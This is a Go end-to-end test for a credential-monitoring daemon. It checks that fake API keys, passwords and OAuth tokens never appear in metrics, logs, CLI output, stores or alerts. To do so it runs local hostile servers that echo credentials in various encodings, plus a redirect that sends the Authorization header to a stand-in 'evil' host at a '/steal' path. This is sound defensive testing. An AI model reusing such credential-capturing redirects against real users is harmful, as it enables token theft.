package main

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"html"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"sort"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/redis/go-redis/v9"

	"github.com/credmon/credmon/checks"
	"github.com/credmon/credmon/cmd/credmon/daemon"
	"github.com/credmon/credmon/store/storetest"
)

// The end-to-end leak test: every kind of secret credmon holds, fed to
// servers that echo what they receive (in challenges, JSON bodies, headers,
// cut at odd lengths), token endpoints that quote the grant, and redirectors
// to a second host that records everything. No output may hold a run of 12
// characters of any secret, in any of its encoded forms; the second host
// must receive no secret at all.

const leakUser = "leak-user"

// hostileSecrets are the fake secrets, by what they are.
var hostileSecrets = map[string]string{
	"api key":        "sk_live_FAKEhostileKEY000000000000000000aa11",
	"previous key":   "sk_live_FAKEhostilePREV00000000000000000ab12",
	"basic password": "FAKE-Hostile-Summer-2026-pw!",
	"url password":   "FAKE-hostile-url-pw-7788",
	"query key":      "qk_FAKEhostileQUERY0000000000cd34",
	"header key":     "hk_FAKEhostileHEADER000000000ef56",
	"body secret":    "bs_FAKEhostileBODY00000000000gh78",
	"client secret":  "cs_FAKEhostileCLIENT000000000ij90",
	"refresh token":  "rt_FAKEhostileREFRESH00000000kl12",
	"access token":   "at_FAKEhostileACCESS000000000mn34",
	"bot token":      "xoxb-FAKEhostileSLACKBOT000000op56",
	"webhook secret": "FAKEhostileWEBHOOK000000000qr78",
	"pagerduty key":  "FAKEhostilePDkey000000000000st90",
	"hmac secret":    "FAKEhostileHMAC-SECRET-uv12",
	"encryption key": "", // set in the test: base64 of 32 bytes
}

// recorder is a server that keeps everything it receives.
type recorder struct {
	*httptest.Server
	trusted bool // the credential's own destination: its Authorization header is expected
	// strip removes from a body what belongs there (PagerDuty's routing_key).
	strip func(body string) string
	mu    sync.Mutex
	got   []string
}

func (r *recorder) record(req *http.Request) {
	body, _ := io.ReadAll(req.Body)
	req.Body = io.NopCloser(strings.NewReader(string(body)))
	var b strings.Builder
	h, target := req.Header.Clone(), req.URL.String()
	if r.trusted {
		// The one place the secret belongs: the credential's header, or a
		// webhook's own URL. Everything else it receives counts.
		h.Del("Authorization")
		if strings.HasPrefix(req.URL.Path, "/services/") {
			target = "/services/(the webhook URL)"
		}
	}
	fmt.Fprintf(&b, "%s %s\n", req.Method, target)
	_ = h.Write(&b)
	if r.strip != nil {
		body = []byte(r.strip(string(body)))
	}
	b.Write(body)
	r.mu.Lock()
	r.got = append(r.got, b.String())
	r.mu.Unlock()
}

func (r *recorder) all() string {
	r.mu.Lock()
	defer r.mu.Unlock()
	return strings.Join(r.got, "\n")
}

func newRecorder(t *testing.T, trusted bool, h func(w http.ResponseWriter, r *http.Request)) *recorder {
	rec := &recorder{trusted: trusted}
	rec.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		rec.record(r)
		if h != nil {
			h(w, r)
		}
	}))
	t.Cleanup(rec.Close)
	return rec
}

// echoed is everything a request carried that a careless server could
// quote: the Authorization header, decoded Basic credentials, the query,
// an API key header and the body.
func echoed(r *http.Request) string {
	parts := []string{r.Header.Get("Authorization"), r.URL.RawQuery, r.Header.Get("X-API-Key")}
	if u, p, ok := r.BasicAuth(); ok {
		parts = append(parts, u+":"+p)
	}
	if r.Body != nil {
		b, _ := io.ReadAll(r.Body)
		parts = append(parts, string(b))
	}
	return strings.Join(parts, " ")
}

// hostileAPIs starts the echoing API (with its token endpoints) and the
// second host it redirects to.
func hostileAPIs(t *testing.T) (api, evil *recorder) {
	evil = newRecorder(t, false, func(w http.ResponseWriter, r *http.Request) {
		// Accept anything and answer with a token of its own.
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, `{"access_token":"evil_FAKE_token_000000000000","token_type":"Bearer","expires_in":3600}`)
	})
	// The second host is "localhost", the API "127.0.0.1": another Host.
	evilURL := strings.Replace(evil.URL, "127.0.0.1", "localhost", 1)
	api = newRecorder(t, true, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/oauth/token":
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"access_token":%q,"token_type":"Bearer","expires_in":3600}`, hostileSecrets["access token"])
		case "/oauth/token-echo":
			// Quotes the grant, the secrets placed across the 160-character
			// cut of error_description.
			_ = r.ParseForm()
			_, cs, _ := r.BasicAuth()
			if cs == "" {
				cs = r.PostForm.Get("client_secret")
			}
			desc := strings.Repeat("x", 150) + " refresh token " + r.PostForm.Get("refresh_token") + " for client secret " + cs + " is expired"
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusBadRequest)
			_ = json.NewEncoder(w).Encode(map[string]string{"error": "invalid_grant " + cs[:min(13, len(cs))], "error_description": desc})
		case "/oauth/token-redirect":
			http.Redirect(w, r, evilURL+"/token?from=credmon", http.StatusTemporaryRedirect)
		case "/echo-challenge":
			// Quoted in the challenge, cut at the 160-character limit.
			e := echoed(r)
			w.Header().Set("WWW-Authenticate", fmt.Sprintf(`Bearer realm=%q, error="invalid_token", error_description=%q`, e[:min(len(e), 19)], strings.Repeat("y", 147)+e))
			w.Header().Set("X-Echo", e)
			w.WriteHeader(http.StatusUnauthorized)
			fmt.Fprintf(w, `{"error":"invalid_token","you_sent":%q}`, e)
		case "/echo-json":
			// 200 with {"ok": false}; the echo sits across the 80-character
			// cut of the body's error text.
			w.Header().Set("Content-Type", "application/json")
			fmt.Fprintf(w, `{"ok":false,"error":%q}`, strings.Repeat("z", 71)+echoed(r))
		case "/echo-status":
			// Echoes where no ResponseWriter can: in the status line's
			// reason phrase, in a header's name and in an auth-param's
			// name (which the client and the parser change the case of).
			cred := r.Header.Get("Authorization")
			_, cred, _ = strings.Cut(cred, " ")
			name := strings.Map(func(c rune) rune {
				if strings.ContainsRune("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_", c) {
					return c
				}
				return '-'
			}, cred)
			conn, buf, err := http.NewResponseController(w).Hijack()
			if err != nil {
				t.Errorf("hijack: %v", err)
				return
			}
			defer conn.Close()
			fmt.Fprintf(buf, "HTTP/1.1 401 Unauthorized %s\r\nX-%s: 1\r\nWWW-Authenticate: Bearer realm=\"r\", %s=\"x\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n",
				strings.NewReplacer("\r", " ", "\n", " ").Replace(echoed(r)), name, name)
			_ = buf.Flush()
		case "/echo-escaped":
			// Escaped every character, as no fixed form is: a
			// quoted-string's \c in the challenge, JSON's \u in the body,
			// percent-encoding in a header.
			e := echoed(r)
			each := func(format string) string {
				var b strings.Builder
				for i := 0; i < len(e); i++ {
					fmt.Fprintf(&b, format, e[i])
				}
				return b.String()
			}
			w.Header().Set("WWW-Authenticate", `Bearer error="invalid_token", error_description="`+each(`\%c`)+`"`)
			w.Header().Set("X-Echo", each("%%%02X"))
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(http.StatusUnauthorized)
			fmt.Fprintf(w, `{"error":"invalid_token","you_sent":"%s","html":"%s"}`, each(`\u%04x`), each("&#%d;"))
		case "/redirect":
			http.Redirect(w, r, evilURL+"/steal?k="+url.QueryEscape(r.Header.Get("Authorization")), http.StatusFound)
		default:
			http.NotFound(w, r)
		}
	})
	return api, evil
}

// leakIn reports which secret has a run of 12 characters, in any of its
// forms and in any letter case, in text; "" when none. Written independently of checks/redact.
func leakIn(text string, secrets map[string]string) string {
	if l := leakInPlain(text, secrets); l != "" {
		return l
	}
	// And once the escapes a server may echo in are undone, with the
	// standard library and regexps.
	u := jsonEscapeRE.ReplaceAllStringFunc(text, func(m string) string {
		r, _ := strconv.ParseUint(m[2:], 16, 32)
		return string(rune(r))
	})
	u = percentEscapeRE.ReplaceAllStringFunc(u, func(m string) string {
		v, _ := url.PathUnescape(m)
		return v
	})
	u = html.UnescapeString(backslashEscapeRE.ReplaceAllString(u, "$1"))
	if l := leakInPlain(u, secrets); l != "" {
		return l + ", escaped"
	}
	return ""
}

// The escapes leakIn undoes: JSON's \u, ASCII percent-encoding, a
// backslash before a printable character.
var (
	jsonEscapeRE      = regexp.MustCompile(`\\u[0-9a-fA-F]{4}`)
	percentEscapeRE   = regexp.MustCompile(`%[0-7][0-9a-fA-F]`)
	backslashEscapeRE = regexp.MustCompile(`\\([!-~])`)
)

func leakInPlain(text string, secrets map[string]string) string {
	for _, seg := range strings.Split(text, "<redacted>") {
		// In any letter case: header and auth-param names come back
		// canonicalised or lowercased.
		lseg := strings.ToLower(seg)
		for what, v := range secrets {
			if v == "" {
				continue
			}
			forms := []string{v, url.QueryEscape(v), url.PathEscape(v)}
			for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.RawStdEncoding, base64.URLEncoding, base64.RawURLEncoding} {
				forms = append(forms, enc.EncodeToString([]byte(v)))
			}
			// skip says where a form's windows start to hold the secret:
			// the first windows of base64("leak-user:pw") encode only the
			// username, which is no secret and is shown (in the identity),
			// so base64 of any text that starts with it would match them.
			skip := map[string]int{}
			if what == "basic password" || what == "url password" {
				b64 := base64.StdEncoding.EncodeToString([]byte(leakUser + ":" + v))
				forms = append(forms, leakUser+":"+v, b64)
				// A window of 12 characters covers 72 bits from bit 6i; the
				// password starts at bit 8 × len("leak-user:").
				for 6*(skip[b64]+12) <= 8*len(leakUser+":") {
					skip[b64]++
				}
			}
			for _, f := range forms {
				if len(f) < 12 {
					if strings.Contains(seg, f) {
						return what
					}
					continue
				}
				lf := strings.ToLower(f)
				for i := skip[f]; i+12 <= len(f); i++ {
					if strings.Contains(lseg, lf[i:i+12]) {
						return fmt.Sprintf("%s (%q)", what, f[i:i+12])
					}
				}
			}
		}
	}
	return ""
}

// hostileConfig writes the configuration into dir and returns its path.
func hostileConfig(t *testing.T, dir, store, prefix string) string {
	api, evil := hostileAPIs(t)
	t.Cleanup(func() {
		if l := leakIn(evil.all(), hostileSecrets); l != "" {
			t.Errorf("the second host received the %s:\n%s", l, evil.all())
		}
	})
	slack := newRecorder(t, true, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		if strings.HasPrefix(r.URL.Path, "/services/") {
			fmt.Fprint(w, "ok")
			return
		}
		if r.Header.Get("Authorization") != "Bearer "+hostileSecrets["bot token"] {
			fmt.Fprint(w, `{"ok":false,"error":"invalid_auth"}`)
			return
		}
		fmt.Fprint(w, `{"ok":true,"channel":"C0FAKE","ts":"1700000000.000100"}`)
	})
	t.Cleanup(func() {
		if l := leakIn(slack.all(), hostileSecrets); l != "" {
			t.Errorf("a Slack payload holds the %s:\n%s", l, slack.all())
		}
		if !strings.Contains(slack.all(), "key-echo-challenge") {
			t.Errorf("Slack never heard of the failing checks: the test proves nothing\n%s", slack.all())
		}
	})
	pd, hook := hostileNotifiers(t)
	bodyFile := filepath.Join(dir, "body.json")
	if err := os.WriteFile(bodyFile, []byte(`{"secret":"`+hostileSecrets["body secret"]+`"}`), 0o600); err != nil {
		t.Fatal(err)
	}
	key := base64.StdEncoding.EncodeToString([]byte("FAKE-32-byte-key-for-leak-test!!"))
	hostileSecrets["encryption key"] = key
	for name, v := range map[string]string{
		"LEAK_API_KEY": hostileSecrets["api key"], "LEAK_PREV_KEY": hostileSecrets["previous key"],
		"LEAK_BASIC_PW": hostileSecrets["basic password"], "LEAK_URL_PW": hostileSecrets["url password"],
		"LEAK_QUERY_KEY": hostileSecrets["query key"], "LEAK_HEADER_KEY": hostileSecrets["header key"],
		"LEAK_CLIENT_SECRET": hostileSecrets["client secret"], "LEAK_REFRESH_TOKEN": hostileSecrets["refresh token"],
		"LEAK_BOT_TOKEN": hostileSecrets["bot token"], "LEAK_ENC_KEY": key,
		"LEAK_PD_KEY": hostileSecrets["pagerduty key"], "LEAK_HMAC": hostileSecrets["hmac secret"],
		"LEAK_WEBHOOK": slack.URL + "/services/TFAKE/BFAKE/" + hostileSecrets["webhook secret"],
	} {
		t.Setenv(name, v)
	}
	storeCfg := fmt.Sprintf("{driver: bolt, path: %q, encryption_key: {env: LEAK_ENC_KEY}}", filepath.Join(dir, "credmon.db"))
	if store == "redis" {
		storeCfg = fmt.Sprintf("{driver: redis, redis: {url: %q, key_prefix: %q}, fallback_path: %q, encryption_key: {env: LEAK_ENC_KEY}}", storetest.RedisURL(), prefix, filepath.Join(dir, "credmon.db"))
	}
	u := api.URL
	path := filepath.Join(dir, "config.yaml")
	cfg := fmt.Sprintf(`
store: %[1]s
scheduler: {schedule: "@every 1s"}
alerting: {failure_threshold: 1}
notify:
  console: true
  slack: {bot_token: {env: LEAK_BOT_TOKEN}, channel: "#credentials", api_url: %[2]q}
  pagerduty: {routing_key: {env: LEAK_PD_KEY}, url: %[10]q}
  webhook: {url: %[11]q, secret: {env: LEAK_HMAC}}
environments:
  prod:
    credentials:
      key: {type: api_key, secret: {env: LEAK_API_KEY}, previous: {env: LEAK_PREV_KEY}, rotation: {rotated_at: auto, max_age: 90d, grace: 1s}}
      basic: {type: basic, username: %[6]s, secret: {env: LEAK_BASIC_PW}}
      client: {type: oauth2_client_credentials, token_url: %[3]q, client_id: leak-client, client_secret: {env: LEAK_CLIENT_SECRET}}
      client-redirected: {type: oauth2_client_credentials, token_url: %[4]q, client_id: leak-client, client_secret: {env: LEAK_CLIENT_SECRET}}
      refresher: {type: oauth2_refresh_token, token_url: %[5]q, client_id: leak-client, client_secret: {env: LEAK_CLIENT_SECRET}, refresh_token: {env: LEAK_REFRESH_TOKEN}}
    checks:
      - {name: key-echo-challenge, credential: key, url: "%[7]s/echo-challenge"}
      - {name: key-echo-json, credential: key, url: "%[7]s/echo-json", expect: {json: {ok: true}}}
      - {name: key-redirect, credential: key, url: "%[7]s/redirect", follow_redirects: true}
      - {name: key-echo-status, credential: key, url: "%[7]s/echo-status"}
      - {name: key-echo-escaped, credential: key, url: "%[7]s/echo-escaped"}
      - {name: basic-echo-challenge, credential: basic, url: "%[7]s/echo-challenge"}
      - {name: basic-echo-json, credential: basic, url: "%[7]s/echo-json", expect: {json: {ok: true}}}
      - {name: basic-echo-status, credential: basic, url: "%[7]s/echo-status"}
      - {name: client-echo, credential: client, url: "%[7]s/echo-challenge"}
      - {name: client-redirected, credential: client-redirected, url: "%[7]s/echo-challenge"}
      - {name: refresher-echo, credential: refresher, url: "%[7]s/echo-challenge"}
      - name: request-secrets
        method: POST
        url: "http://%[6]s:${LEAK_URL_PW}@%[8]s/echo-challenge?page=1"
        query: {api_key: {env: LEAK_QUERY_KEY}}
        headers: {X-API-Key: {env: LEAK_HEADER_KEY}}
        body: {file: %[9]q}
  staging:
    slack: {webhook_url: {env: LEAK_WEBHOOK}}
    credentials:
      key: {type: api_key, secret: {env: LEAK_API_KEY}}
    checks:
      - {name: key-echo-challenge, credential: key, url: "%[7]s/echo-challenge"}
`, storeCfg, slack.URL+"/api/", u+"/oauth/token", u+"/oauth/token-redirect", u+"/oauth/token-echo", leakUser, u, strings.TrimPrefix(u, "http://"), bodyFile, pd.URL+"/v2/enqueue", hook.URL+"/credmon")
	if err := os.WriteFile(path, []byte(cfg), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// hostileNotifiers are a PagerDuty and a webhook receiver that answer
// every other request with an error quoting the routing key or the HMAC
// secret, and accept the rest. What they receive, but for PagerDuty's
// routing_key field (its one place), must hold no secret.
func hostileNotifiers(t *testing.T) (pd, hook *recorder) {
	var mu sync.Mutex
	n := map[string]int{}
	odd := func(who string) bool {
		mu.Lock()
		defer mu.Unlock()
		n[who]++
		return n[who]%2 == 1
	}
	pd = newRecorder(t, false, func(w http.ResponseWriter, r *http.Request) {
		if odd("pd") {
			http.Error(w, `{"status":"error","message":"upstream said routing_key=`+hostileSecrets["pagerduty key"]+`"}`, 500)
			return
		}
		w.WriteHeader(202)
	})
	pd.strip = func(body string) string {
		var ev map[string]any
		if json.Unmarshal([]byte(body), &ev) != nil || ev["routing_key"] != hostileSecrets["pagerduty key"] {
			t.Errorf("PagerDuty got no routing_key, or another: %s", body)
		}
		delete(ev, "routing_key")
		b, _ := json.Marshal(ev)
		return string(b)
	}
	hook = newRecorder(t, false, func(w http.ResponseWriter, r *http.Request) {
		if odd("hook") {
			w.Header().Set("Retry-After", "1")
			http.Error(w, "hmac key rejected: "+hostileSecrets["hmac secret"], 429)
			return
		}
		w.WriteHeader(204)
	})
	t.Cleanup(func() {
		for name, r := range map[string]*recorder{"PagerDuty": pd, "webhook": hook} {
			if l := leakIn(r.all(), hostileSecrets); l != "" {
				t.Errorf("the %s receiver got the %s:\n%s", name, l, r.all())
			}
			// Every other answer is an error with a backoff, so on a busy
			// machine only the first few incidents get through: any will do.
			if !strings.Contains(r.all(), `"env":"prod"`) && !strings.Contains(r.all(), `"group":"prod"`) {
				t.Errorf("the %s receiver never heard of the failing checks: the test proves nothing\n%s", name, r.all())
			}
		}
	})
	return pd, hook
}

func mustRedisOptions(t *testing.T) *redis.Options {
	o, err := redis.ParseURL(storetest.RedisURL())
	if err != nil {
		t.Fatal(err)
	}
	return o
}

// dumpRedis returns every key under prefix with its value, whatever its
// type, and deletes them.
func dumpRedis(t *testing.T, prefix string) string {
	ctx := context.Background()
	rc := redis.NewClient(mustRedisOptions(t))
	defer rc.Close()
	keys, err := rc.Keys(ctx, prefix+"*").Result()
	if err != nil {
		t.Fatal(err)
	}
	var b strings.Builder
	for _, k := range keys {
		fmt.Fprintf(&b, "%s: ", k)
		switch typ := rc.Type(ctx, k).Val(); typ {
		case "string":
			b.WriteString(rc.Get(ctx, k).Val())
		case "hash":
			fmt.Fprint(&b, rc.HGetAll(ctx, k).Val())
		case "list":
			fmt.Fprint(&b, rc.LRange(ctx, k, 0, -1).Val())
		case "set":
			fmt.Fprint(&b, rc.SMembers(ctx, k).Val())
		case "zset":
			fmt.Fprint(&b, rc.ZRangeWithScores(ctx, k, 0, -1).Val())
		case "stream":
			fmt.Fprint(&b, rc.XRange(ctx, k, "-", "+").Val())
		default:
			fmt.Fprintf(&b, "(type %s)", typ)
		}
		b.WriteByte('\n')
	}
	if len(keys) > 0 {
		rc.Del(ctx, keys...)
	}
	return b.String()
}

type syncBuffer struct {
	mu sync.Mutex
	b  strings.Builder
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

func getURL(t *testing.T, u string) (int, string) {
	t.Helper()
	return getURLAccepting(t, u, "")
}

// getURLAccepting is getURL with an Accept header ("" sends none).
func getURLAccepting(t *testing.T, u, accept string) (int, string) {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, u, nil)
	if err != nil {
		t.Fatal(err)
	}
	if accept != "" {
		req.Header.Set("Accept", accept)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

func TestNoSecretInAnyOutputAgainstHostileServers(t *testing.T) {
	for _, store := range []string{"bolt", "redis"} {
		t.Run(store, func(t *testing.T) { hostileRun(t, store) })
	}
}

func hostileRun(t *testing.T, store string) {
	if store == "redis" {
		rc := redis.NewClient(mustRedisOptions(t))
		if err := rc.Ping(context.Background()).Err(); err != nil {
			if os.Getenv("CI") == "true" {
				t.Fatalf("redis at %s: %v", storetest.RedisURL(), err)
			}
			t.Skipf("redis at %s not reachable: %v", storetest.RedisURL(), err)
		}
		_ = rc.Close()
	}
	dir := t.TempDir()
	prefix := fmt.Sprintf("credmon-leaktest-%d:", time.Now().UnixNano())
	cfgPath := hostileConfig(t, dir, store, prefix)
	var logs syncBuffer
	results := make(chan string, 256)
	d := startDaemon(t, daemon.Options{ConfigPath: cfgPath,
		Logger: slog.New(slog.NewTextHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug})),
		OnResult: func(r checks.Result) {
			select {
			case results <- r.Key():
			default:
			}
		}})
	addr := d.addr
	// Every check has run at least twice: incidents opened and announced.
	seen := map[string]int{}
	hang := time.After(60 * time.Second) // a hang guard, not a wait
	for len(seen) < len(hostileChecks) || minCount(seen) < 2 {
		select {
		case k := <-results:
			if slices.Contains(hostileChecks, k) {
				seen[k]++
			}
		case <-hang:
			t.Fatalf("checks did not all run twice: %v", seen)
		}
	}
	outputs := map[string]string{}
	// The page also filtered and listing every check, and /metrics also as
	// protobuf (the registry path; the text is written from compact state).
	for _, path := range []string{"/metrics", "/api/v1/status", "/", "/?status=fail,error,warn,pending,ok&limit=all", "/readyz"} {
		_, body := getURL(t, "http://"+addr+path)
		outputs["GET "+path] = body
	}
	_, proto := getURLAccepting(t, "http://"+addr+"/metrics", "application/vnd.google.protobuf;proto=io.prometheus.client.MetricFamily;encoding=delimited")
	if !strings.Contains(proto, "key-echo-challenge") {
		t.Error("the protobuf scrape lacks the checks' series")
	}
	outputs["GET /metrics (protobuf)"] = proto
	for _, args := range [][]string{
		{"check", "-config", cfgPath},
		{"check", "-config", cfgPath, "-format", "json"},
		{"check", "-config", cfgPath, "-format", "junit"},
		{"check", "-config", cfgPath, "-format", "github"},
		{"status", "-config", cfgPath},
		{"status", "-config", cfgPath, "-format", "json"},
	} {
		r := runCLI(t, "", args...)
		outputs[strings.Join(args[:1], " ")+" "+strings.Join(args[3:], " ")] = r.stdout + r.stderr
	}
	for _, c := range hostileChecks {
		r := runCLI(t, "", "explain", "-config", cfgPath, c)
		outputs["explain "+c] = r.stdout + r.stderr
	}
	if err := d.stop(); err != nil {
		t.Fatalf("daemon: %v", err)
	}
	outputs["logs and console"] = logs.String()
	if store == "bolt" {
		db, err := os.ReadFile(filepath.Join(dir, "credmon.db"))
		if err != nil {
			t.Fatal(err)
		}
		outputs["bolt file"] = string(db)
	} else {
		outputs["redis"] = dumpRedis(t, prefix)
		// The replica's local outage buffer, a bolt file of its own.
		if db, err := os.ReadFile(filepath.Join(dir, "credmon.db")); err == nil {
			outputs["fallback bolt file"] = string(db)
		} else {
			t.Errorf("the redis replica's fallback file: %v", err)
		}
	}
	names := make([]string, 0, len(outputs))
	for k := range outputs {
		names = append(names, k)
	}
	sort.Strings(names)
	for _, where := range names {
		text := outputs[where]
		if len(text) < 100 && where != "GET /readyz" {
			t.Errorf("%s: suspiciously little output (%d bytes): the test would prove nothing\n%s", where, len(text), text)
		}
		if l := leakIn(text, hostileSecrets); l != "" {
			t.Errorf("%s holds the %s:\n%s", where, l, text)
		}
	}
	// The hostile servers did say things: the outputs carry their words,
	// redacted, so a pass means redaction, not silence.
	var all strings.Builder
	for _, text := range outputs {
		all.WriteString(text)
	}
	for _, want := range []string{"invalid_grant", "redirecting to localhost", "<redacted>", "upstream said routing_key", "hmac key rejected"} {
		if !strings.Contains(all.String(), want) {
			t.Errorf("outputs never mention %q: the hostile servers were not exercised", want)
		}
	}
}

// hostileChecks are the checks of hostileConfig.
var hostileChecks = []string{"prod/key-echo-challenge", "prod/key-echo-json", "prod/key-redirect", "prod/key-echo-status", "prod/key-echo-escaped", "prod/basic-echo-challenge",
	"prod/basic-echo-json", "prod/basic-echo-status", "prod/client-echo", "prod/client-redirected", "prod/refresher-echo", "prod/request-secrets",
	"staging/key-echo-challenge"}

func minCount(m map[string]int) int {
	n := -1
	for _, c := range m {
		if n < 0 || c < n {
			n = c
		}
	}
	return n
}
